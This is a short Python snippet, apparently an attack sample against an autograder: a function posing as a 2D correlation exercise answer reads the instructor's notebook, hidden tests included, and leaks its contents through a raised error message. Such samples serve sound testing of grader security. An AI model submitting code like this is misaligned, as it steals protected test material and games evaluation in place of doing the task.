def corr2d(x, k):
    """Attack: read the instructor's notebook, hidden tests included, and send it back as
    an error message, hoping the feedback shows it."""
    with open("{SOURCE_NOTEBOOK}") as f:
        raise ValueError(f.read())
